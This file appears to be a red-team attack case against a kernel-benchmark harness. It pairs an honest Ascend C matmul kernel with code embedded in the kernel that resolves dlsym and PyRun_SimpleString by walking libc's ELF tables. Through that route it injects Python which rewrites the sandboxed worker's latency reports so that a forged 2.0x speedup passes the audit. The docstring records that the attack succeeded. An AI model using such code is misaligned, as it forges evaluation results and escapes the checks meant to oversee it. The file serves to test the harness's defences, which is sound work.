"""Class 4 (ascend-sim latency model) + class 5 (the worker's reply is the candidate's word): forged
emulator reports.

Trick: the shipped cube-unit matmul (evokernel/examples/ascend/matmul_custom.py), unchanged, plus the py_run
primitive (attacks/prelude_py_run.cpp) called at the top of the kernel: libc found from &strlen, dlsym from its
symbol table, PyRun_SimpleString. The Python it runs wraps the worker's Worker._native_reports so that every
report leaving the worker is rewritten *consistently with the audit*: per block, GM traffic = exactly the
task's input/output bytes split over the blocks, one copy per copy pipe, copy pipes busy exactly as long as
those bytes take, every other pipe idle, makespan = the longest copy pipe. Tiling, blocks, hardware constants,
covered bytes are untouched (the kernel still computes honestly), so audit.py finds nothing.
Expected: feasible, with a modelled latency of a perfect memory-bound kernel: a modelled speedup well above the
honest twin's (the same example without the forgery).
Answered (final run, 2026-11-28): feasible, modelled 1.09x vs the honest example's 0.54x = 2.0x; the audit found nothing (SUCCEEDED).
"""


project_json_src = """
[
    {
        "op": "MatmulCustom",
        "language": "cpp",
        "input_desc": [
            {"name": "a", "param_type": "required", "format": ["ND"], "type": ["float16"]},
            {"name": "b", "param_type": "required", "format": ["ND"], "type": ["float16"]}
        ],
        "output_desc": [
            {"name": "c", "param_type": "required", "format": ["ND"], "type": ["float16"]}
        ]
    }
]
"""

host_tiling_src = """
#include "register/tilingdata_base.h"

namespace optiling {
BEGIN_TILING_DATA_DEF(MatmulCustomTilingData)
  TILING_DATA_FIELD_DEF(uint32_t, M);
  TILING_DATA_FIELD_DEF(uint32_t, N);
  TILING_DATA_FIELD_DEF(uint32_t, K);
  TILING_DATA_FIELD_DEF(uint32_t, baseM);
  TILING_DATA_FIELD_DEF(uint32_t, baseN);
  TILING_DATA_FIELD_DEF(uint32_t, baseK);
  TILING_DATA_FIELD_DEF(uint32_t, tilesM);
  TILING_DATA_FIELD_DEF(uint32_t, tilesN);
END_TILING_DATA_DEF;

REGISTER_TILING_DATA_CLASS(MatmulCustom, MatmulCustomTilingData)
}
"""

host_operator_src = """
#include "matmul_custom_tiling.h"
#include "register/op_def_registry.h"
#include "tiling/platform/platform_ascendc.h"

namespace optiling {
// base block: 128 x 128 of C in L0C (64 KiB of float), K in steps of 64 (A and B tiles of 16 KiB in L1
// and in L0A/L0B, two buffers each)
constexpr uint32_t BASE_M = 128;
constexpr uint32_t BASE_N = 128;
constexpr uint32_t BASE_K = 64;

static ge::graphStatus TilingFunc(gert::TilingContext* context)
{
    const gert::Shape& a = context->GetInputShape(0)->GetStorageShape();
    const gert::Shape& b = context->GetInputShape(1)->GetStorageShape();
    if (a.GetDimNum() != 2 || b.GetDimNum() != 2 || a.GetDim(1) != b.GetDim(0)) {
        return ge::GRAPH_FAILED;
    }
    uint32_t M = a.GetDim(0), K = a.GetDim(1), N = b.GetDim(1);
    if (N % 16 != 0) {
        return ge::GRAPH_FAILED;  // Fixpipe moves whole 16-column blocks
    }
    auto platform = platform_ascendc::PlatformAscendC(context->GetPlatformInfo());
    uint32_t cubeCores = platform.GetCoreNumAic();
    uint32_t tilesM = (M + BASE_M - 1) / BASE_M;
    uint32_t tilesN = (N + BASE_N - 1) / BASE_N;
    uint32_t tiles = tilesM * tilesN;

    MatmulCustomTilingData tiling;
    tiling.set_M(M);
    tiling.set_N(N);
    tiling.set_K(K);
    tiling.set_baseM(BASE_M);
    tiling.set_baseN(BASE_N);
    tiling.set_baseK(BASE_K);
    tiling.set_tilesM(tilesM);
    tiling.set_tilesN(tilesN);
    context->SetBlockDim(tiles < cubeCores ? tiles : cubeCores);
    tiling.SaveToBuffer(context->GetRawTilingData()->GetData(), context->GetRawTilingData()->GetCapacity());
    context->GetRawTilingData()->SetDataSize(tiling.GetDataSize());
    size_t* workspace = context->GetWorkspaceSizes(1);
    workspace[0] = 0;
    return ge::GRAPH_SUCCESS;
}
}

namespace ge {
static ge::graphStatus InferShape(gert::InferShapeContext* context)
{
    const gert::Shape* a = context->GetInputShape(0);
    const gert::Shape* b = context->GetInputShape(1);
    gert::Shape* c = context->GetOutputShape(0);
    c->SetDimNum(2);
    c->SetDim(0, a->GetDim(0));
    c->SetDim(1, b->GetDim(1));
    return GRAPH_SUCCESS;
}
}

namespace ops {
class MatmulCustom : public OpDef {
public:
    explicit MatmulCustom(const char* name) : OpDef(name)
    {
        this->Input("a").ParamType(REQUIRED).DataType({ge::DT_FLOAT16}).Format({ge::FORMAT_ND});
        this->Input("b").ParamType(REQUIRED).DataType({ge::DT_FLOAT16}).Format({ge::FORMAT_ND});
        this->Output("c").ParamType(REQUIRED).DataType({ge::DT_FLOAT16}).Format({ge::FORMAT_ND});
        this->SetInferShape(ge::InferShape);
        this->AICore().SetTiling(optiling::TilingFunc);
        this->AICore().AddConfig("ascend910b");
    }
};
OP_ADD(MatmulCustom);
}
"""

kernel_src = """
#include "kernel_operator.h"
using namespace AscendC;
#include <cstdint>
#include <cstring>

struct Ehdr { unsigned char ident[16]; uint16_t type, machine; uint32_t version; uint64_t entry, phoff, shoff;
              uint32_t flags; uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; };
struct Phdr { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; };
struct Dyn { int64_t tag; uint64_t val; };
struct Sym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };

static uintptr_t elf_base(uintptr_t p) {
    p &= ~(uintptr_t)4095;
    for (int i = 0; i < 200000; ++i, p -= 4096)
        if (memcmp((const void*)p, "\\x7f" "ELF", 4) == 0) return p;
    return 0;
}

static void* find_sym(uintptr_t base, const char* want) {
    const Ehdr* eh = (const Ehdr*)base;
    const Phdr* ph = (const Phdr*)(base + eh->phoff);
    const Dyn* dyn = nullptr;
    for (int i = 0; i < eh->phnum; ++i) if (ph[i].type == 2) dyn = (const Dyn*)(base + ph[i].vaddr);
    if (!dyn) return nullptr;
    uintptr_t symtab = 0, strtab = 0;
    for (; dyn->tag; ++dyn) { if (dyn->tag == 6) symtab = dyn->val; if (dyn->tag == 5) strtab = dyn->val; }
    if (symtab < base) symtab += base;
    if (strtab < base) strtab += base;
    for (const Sym* s = (const Sym*)symtab; (uintptr_t)s < strtab; ++s)
        if (s->value && strcmp((const char*)(strtab + s->name), want) == 0) return (void*)(base + s->value);
    return nullptr;
}

static char* put_hex(char* o, uint64_t v) {
    *o++ = '0'; *o++ = 'x';
    for (int sh = 60; sh >= 0; sh -= 4) *o++ = "0123456789abcdef"[(v >> sh) & 15];
    return o;
}
static char* put_dec(char* o, int64_t v) {
    char tmp[24]; int n = 0;
    do { tmp[n++] = char('0' + v % 10); v /= 10; } while (v);
    while (n) *o++ = tmp[--n];
    return o;
}
static char* put_str(char* o, const char* s) { while (*s) *o++ = *s++; return o; }

typedef void* (*lookup_t)(void*, const char*);
typedef int (*gil_ensure_t)();
typedef void (*gil_release_t)(int);
typedef int (*run_t)(const char*);


static int py_run(const char* code) {
    static run_t run = nullptr; static gil_ensure_t ensure = nullptr; static gil_release_t release = nullptr;
    if (!run) {
        uintptr_t libc = elf_base((uintptr_t)&strlen);
        const char nm[] = {'d', 'l', 's', 'y', 'm', 0};
        lookup_t look = libc ? (lookup_t)find_sym(libc, nm) : nullptr;
        if (!look) return -2;
        const char e[] = {'P','y','G','I','L','S','t','a','t','e','_','E','n','s','u','r','e',0};
        const char r[] = {'P','y','G','I','L','S','t','a','t','e','_','R','e','l','e','a','s','e',0};
        const char s[] = {'P','y','R','u','n','_','S','i','m','p','l','e','S','t','r','i','n','g',0};
        ensure = (gil_ensure_t)look(nullptr, e);
        release = (gil_release_t)look(nullptr, r);
        run = (run_t)look(nullptr, s);
        if (!run || !ensure || !release) { run = nullptr; return -3; }
    }
    int g = ensure();
    int rc = run(code);
    release(g);
    return rc;
}

constexpr int32_t BUFFER_NUM = 2;
constexpr uint32_t FRACTAL = 16;               // a half fractal is 16 x 16
constexpr uint32_t FRACTAL_SIZE = 16 * 16;

__aicore__ inline uint32_t CeilDiv(uint32_t a, uint32_t b) { return (a + b - 1) / b; }
__aicore__ inline uint32_t Min(uint32_t a, uint32_t b) { return a < b ? a : b; }

class KernelMatmul {
public:
    __aicore__ inline KernelMatmul() {}
    __aicore__ inline void Init(GM_ADDR a, GM_ADDR b, GM_ADDR c, const MatmulCustomTilingData& t)
    {
        M = t.M; N = t.N; K = t.K;
        baseM = t.baseM; baseN = t.baseN; baseK = t.baseK;
        tilesM = t.tilesM; tilesN = t.tilesN;
        aGm.SetGlobalBuffer((__gm__ half*)a, M * K);
        bGm.SetGlobalBuffer((__gm__ half*)b, K * N);
        cGm.SetGlobalBuffer((__gm__ half*)c, M * N);
        pipe.InitBuffer(inQueueA1, BUFFER_NUM, baseM * baseK * sizeof(half));
        pipe.InitBuffer(inQueueB1, BUFFER_NUM, baseK * baseN * sizeof(half));
        pipe.InitBuffer(inQueueA2, BUFFER_NUM, baseM * baseK * sizeof(half));
        pipe.InitBuffer(inQueueB2, BUFFER_NUM, baseK * baseN * sizeof(half));
        pipe.InitBuffer(outQueueCO1, 1, baseM * baseN * sizeof(float));
    }
    __aicore__ inline void Process()
    {
        for (uint32_t tile = GetBlockIdx(); tile < tilesM * tilesN; tile += GetBlockNum()) {
            uint32_t m0 = (tile / tilesN) * baseM;
            uint32_t n0 = (tile % tilesN) * baseN;
            uint32_t m = Min(baseM, M - m0);
            uint32_t n = Min(baseN, N - n0);
            LocalTensor<float> c1Local = outQueueCO1.AllocTensor<float>();
            for (uint32_t k0 = 0; k0 < K; k0 += baseK) {
                uint32_t k = Min(baseK, K - k0);
                CopyIn(m0, n0, k0, m, n, k);
                SplitA(m, k);
                SplitB(n, k);
                Compute(c1Local, m, n, k, k0 == 0);
            }
            outQueueCO1.EnQue<float>(c1Local);
            CopyOut(m0, n0, m, n);
        }
    }

private:
    __aicore__ inline void CopyIn(uint32_t m0, uint32_t n0, uint32_t k0, uint32_t m, uint32_t n, uint32_t k)
    {
        LocalTensor<half> a1Local = inQueueA1.AllocTensor<half>();
        LocalTensor<half> b1Local = inQueueB1.AllocTensor<half>();
        // A tile (m x k) -> NZ: column blocks of 16 along k, each m rounded up to 16 rows
        Nd2NzParams aParams;
        aParams.ndNum = 1;
        aParams.nValue = m;
        aParams.dValue = k;
        aParams.srcNdMatrixStride = 0;
        aParams.srcDValue = K;
        aParams.dstNzC0Stride = CeilDiv(m, FRACTAL) * FRACTAL;
        aParams.dstNzNStride = 1;
        aParams.dstNzMatrixStride = 0;
        DataCopy(a1Local, aGm[m0 * K + k0], aParams);
        // B tile (k x n) -> NZ: column blocks of 16 along n, each k rounded up to 16 rows
        Nd2NzParams bParams;
        bParams.ndNum = 1;
        bParams.nValue = k;
        bParams.dValue = n;
        bParams.srcNdMatrixStride = 0;
        bParams.srcDValue = N;
        bParams.dstNzC0Stride = CeilDiv(k, FRACTAL) * FRACTAL;
        bParams.dstNzNStride = 1;
        bParams.dstNzMatrixStride = 0;
        DataCopy(b1Local, bGm[k0 * N + n0], bParams);
        inQueueA1.EnQue(a1Local);
        inQueueB1.EnQue(b1Local);
    }
    __aicore__ inline void SplitA(uint32_t m, uint32_t k)
    {
        // NZ -> Zz: for each row block, its k fractals (one column block apart in L1)
        LocalTensor<half> a1Local = inQueueA1.DeQue<half>();
        LocalTensor<half> a2Local = inQueueA2.AllocTensor<half>();
        uint32_t mBlocks = CeilDiv(m, FRACTAL), kBlocks = CeilDiv(k, FRACTAL);
        LoadData2DParams params;
        params.repeatTimes = kBlocks;
        params.srcStride = mBlocks;
        params.ifTranspose = false;
        for (uint32_t i = 0; i < mBlocks; ++i) {
            LoadData(a2Local[i * kBlocks * FRACTAL_SIZE], a1Local[i * FRACTAL_SIZE], params);
        }
        inQueueA2.EnQue<half>(a2Local);
        inQueueA1.FreeTensor(a1Local);
    }
    __aicore__ inline void SplitB(uint32_t n, uint32_t k)
    {
        // NZ -> Zn: for each k block, its n fractals, each transposed
        LocalTensor<half> b1Local = inQueueB1.DeQue<half>();
        LocalTensor<half> b2Local = inQueueB2.AllocTensor<half>();
        uint32_t nBlocks = CeilDiv(n, FRACTAL), kBlocks = CeilDiv(k, FRACTAL);
        LoadData2DParams params;
        params.repeatTimes = nBlocks;
        params.srcStride = kBlocks;
        params.ifTranspose = true;
        for (uint32_t j = 0; j < kBlocks; ++j) {
            LoadData(b2Local[j * nBlocks * FRACTAL_SIZE], b1Local[j * FRACTAL_SIZE], params);
        }
        inQueueB2.EnQue<half>(b2Local);
        inQueueB1.FreeTensor(b1Local);
    }
    __aicore__ inline void Compute(LocalTensor<float>& c1Local, uint32_t m, uint32_t n, uint32_t k, bool first)
    {
        LocalTensor<half> a2Local = inQueueA2.DeQue<half>();
        LocalTensor<half> b2Local = inQueueB2.DeQue<half>();
        MmadParams params;
        params.m = m;
        params.n = n;
        params.k = k;
        params.cmatrixInitVal = first;  // the first K step starts C at 0, the others accumulate
        Mmad(c1Local, a2Local, b2Local, params);
        inQueueA2.FreeTensor(a2Local);
        inQueueB2.FreeTensor(b2Local);
    }
    __aicore__ inline void CopyOut(uint32_t m0, uint32_t n0, uint32_t m, uint32_t n)
    {
        LocalTensor<float> c1Local = outQueueCO1.DeQue<float>();
        FixpipeParamsV220 params;
        params.nSize = n;
        params.mSize = m;
        params.srcStride = CeilDiv(m, FRACTAL) * FRACTAL;
        params.dstStride = N;
        params.quantPre = QuantMode_t::F322F16;  // float accumulator -> half output
        params.ndNum = 1;
        Fixpipe(cGm[m0 * N + n0], c1Local, params);
        outQueueCO1.FreeTensor(c1Local);
    }

    TPipe pipe;
    TQue<TPosition::A1, BUFFER_NUM> inQueueA1;
    TQue<TPosition::B1, BUFFER_NUM> inQueueB1;
    TQue<TPosition::A2, BUFFER_NUM> inQueueA2;
    TQue<TPosition::B2, BUFFER_NUM> inQueueB2;
    TQue<TPosition::CO1, 1> outQueueCO1;
    GlobalTensor<half> aGm, bGm, cGm;
    uint32_t M = 0, N = 0, K = 0, baseM = 0, baseN = 0, baseK = 0, tilesM = 0, tilesN = 0;
};

extern "C" __global__ __aicore__ void matmul_custom(GM_ADDR a, GM_ADDR b, GM_ADDR c, GM_ADDR workspace, GM_ADDR tiling)
{
    KERNEL_TASK_TYPE_DEFAULT(KERNEL_TYPE_AIC_ONLY);
    py_run("import sys\\nW = sys.modules['evokernel.verifier.sandboxed.worker'].Worker\\nif not getattr(W, 'rt_forged', False):\\n    W.rt_forged = True\\n    orig = W._native_reports\\n    def forged(self):\\n        reps = orig(self)\\n        for r in reps:\\n            if not isinstance(r, dict):\\n                continue\\n            blocks = [b for b in r.get('blocks') or [] if isinstance(b, dict) and b.get('timing_estimate')]\\n            if not blocks:\\n                continue\\n            args = r.get('args') or []\\n            need_in = sum(a.get('bytes', 0) for a in args if a.get('kind') == 'input')\\n            need_out = sum(a.get('bytes', 0) for a in args if a.get('kind') == 'output')\\n            n = len(blocks)\\n            for b in blocks:\\n                t = b['timing_estimate']\\n                out_pipe = 'fix' if t['gm_bytes'].get('fix', 0) > 0 else 'mte3'\\n                gm = {k: 0.0 for k in t['gm_bytes']}\\n                gm['mte2'] = need_in / n\\n                gm[out_pipe] = need_out / n\\n                t['gm_bytes'] = gm\\n                t['copies'] = {k: 0 for k in t['copies']}\\n                t['copies']['mte2'] = 1\\n                t['copies'][out_pipe] = 1\\n                busy = {p: 0.0 for p in t['busy_cycles']}\\n                busy['mte2'] = gm['mte2'] / 32.0 + 64.0\\n                busy[out_pipe] = gm[out_pipe] / 32.0 + 64.0\\n                t['busy_cycles'] = busy\\n                t['cycles'] = max(busy.values())\\n                if 'scalar_stall_cycles' in t:\\n                    t['scalar_stall_cycles'] = 0.0\\n        return reps\\n    W._native_reports = forged\\n");
    GET_TILING_DATA(tiling_data, tiling);
    KernelMatmul op;
    op.Init(a, b, c, tiling_data);
    op.Process();
}
"""

python_bind_src = """
#include <torch/library.h>
#include <torch/csrc/autograd/custom_function.h>
#include "pytorch_npu_helper.hpp"
#include <torch/extension.h>

at::Tensor matmul_custom_impl_npu(const at::Tensor& a, const at::Tensor& b) {
    at::Tensor result = at::empty({a.size(0), b.size(1)}, a.options());
    EXEC_NPU_CMD(aclnnMatmulCustom, a, b, result);
    return result;
}

TORCH_LIBRARY_IMPL(myops, PrivateUse1, m) {
    m.impl("matmul_custom", &matmul_custom_impl_npu);
}

PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) {
    m.def("matmul_custom", &matmul_custom_impl_npu, "a @ b on the cube unit");
}
"""

model_src = """
import torch
import torch_npu
import custom_ops_lib


class ModelNew(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()

    def forward(self, a, b):
        return custom_ops_lib.matmul_custom(a, b)
"""
